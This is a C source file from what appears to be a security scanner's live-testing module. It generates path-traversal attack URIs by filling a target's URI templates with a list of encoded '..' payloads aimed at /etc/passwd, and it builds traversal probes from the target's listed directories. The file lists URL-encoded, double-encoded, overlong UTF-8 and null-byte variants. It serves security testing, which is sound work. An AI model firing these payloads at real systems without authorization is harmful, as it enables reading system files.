/*
 * uris.c - the URI attack grammar (uris.h). A few anchors are enough: the
 * probes differ in how ".." is written, not in where it starts, and a
 * target's listed URIs mostly share a handful of directories.
 */
#include "live/uris.h"

#include "uri/traverse.h"
#include "uri/uritemplate.h"

#include <stdlib.h>
#include <string.h>

#define MAX_ANCHORS   6
#define MAX_TEMPLATES 8

/* What a template's variables are set to: ".." written every way a server might decode. */
static const char *const climbs[] = {
    "../../../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\..\\..\\etc\\passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "../../../../etc/passwd%00.txt",
    "/etc/passwd",
};

static void add(cJSON *out, const char *uri)
{
    if (uri && cJSON_GetArraySize(out) < MCPS_LIVE_MAX_ATTACKS)
        cJSON_AddItemToArray(out, cJSON_CreateString(uri));
}

/* The directory part of uri (through its last '/') is new: remember it. */
static bool new_directory(cJSON *seen, const char *uri)
{
    const char *slash = strrchr(uri, '/');
    if (!slash)
        return false;
    size_t n = (size_t)(slash - uri) + 1;
    const cJSON *s;
    cJSON_ArrayForEach(s, seen) if (strlen(s->valuestring) == n &&
                                    memcmp(s->valuestring, uri, n) == 0) return false;
    char *dir = strndup(uri, n);
    if (!dir)
        return false;
    cJSON_AddItemToArray(seen, cJSON_CreateString(dir));
    free(dir);
    return true;
}

/* The probes of traverse.h anchored at uri, when its directory is a new one and fewer than
 * anchors are known. */
static void probe(cJSON *seen, int anchors, const char *uri, cJSON *out)
{
    if (cJSON_GetArraySize(seen) >= anchors || !new_directory(seen, uri))
        return;
    mcps_traverse_probes probes = {0};
    mcps_uri_error err;
    if (!mcps_traverse_make_probes(uri, strlen(uri), &probes, &err))
        return;
    for (size_t i = 0; i < probes.count; i++)
        add(out, probes.items[i].uri);
    mcps_traverse_probes_free(&probes);
}

/* The template with every variable set to value (NULL when it cannot be expanded). */
static char *expand(const mcps_tmpl *t, const char *value)
{
    cJSON *values = cJSON_CreateObject();
    for (size_t i = 0; i < mcps_tmpl_var_count(t); i++)
        if (!cJSON_HasObjectItem(values, mcps_tmpl_var_name(t, i)))
            cJSON_AddStringToObject(values, mcps_tmpl_var_name(t, i), value);
    size_t len;
    mcps_tmpl_error err;
    char *uri = mcps_tmpl_expand(t, values, &len, &err);
    cJSON_Delete(values);
    return uri;
}

/* A template: anchored probes from a harmless expansion, then its variables climbing. */
static void template_attacks(cJSON *seen, const char *text, cJSON *out)
{
    mcps_tmpl_error err;
    mcps_tmpl *t = mcps_tmpl_parse(text, strlen(text), &err);
    if (!t)
        return;
    char *plain = expand(t, "x");
    if (plain)
        probe(seen, MAX_ANCHORS, plain, out);
    free(plain);
    for (size_t i = 0; i < sizeof climbs / sizeof *climbs; i++) {
        char *uri = expand(t, climbs[i]);
        add(out, uri);
        free(uri);
    }
    mcps_tmpl_free(t);
}

static void listed_attacks(cJSON *seen, int anchors, const cJSON *uris, cJSON *out)
{
    const cJSON *u;
    cJSON_ArrayForEach(u, uris) if (cJSON_IsString(u)) probe(seen, anchors, u->valuestring, out);
}

/* Half the anchors from the listed URIs, then the templates, then the listed URIs again: a
 * long list of either leaves room for the other. */
void mcps_live_uri_attacks(const cJSON *uris, const cJSON *templates, cJSON *out)
{
    cJSON *seen = cJSON_CreateArray();
    listed_attacks(seen, MAX_ANCHORS / 2, uris, out);
    int n = 0;
    const cJSON *t;
    cJSON_ArrayForEach(t, templates) if (cJSON_IsString(t) && n++ < MAX_TEMPLATES)
        template_attacks(seen, t->valuestring, out);
    listed_attacks(seen, MAX_ANCHORS, uris, out);
    cJSON_Delete(seen);
}
